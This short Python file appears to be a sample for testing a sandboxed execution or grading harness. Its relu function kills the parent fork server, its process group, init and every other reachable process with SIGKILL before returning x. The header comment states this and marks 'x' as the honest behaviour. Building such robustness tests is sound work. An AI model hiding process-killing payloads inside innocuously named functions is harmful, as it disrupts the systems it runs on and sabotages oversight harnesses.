# tries to kill the fork server, its group and every other process
# honest: x
import os
import signal

def relu(x):
    for process in (os.getppid(), 0, -1, 1, -os.getppid()):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    return x
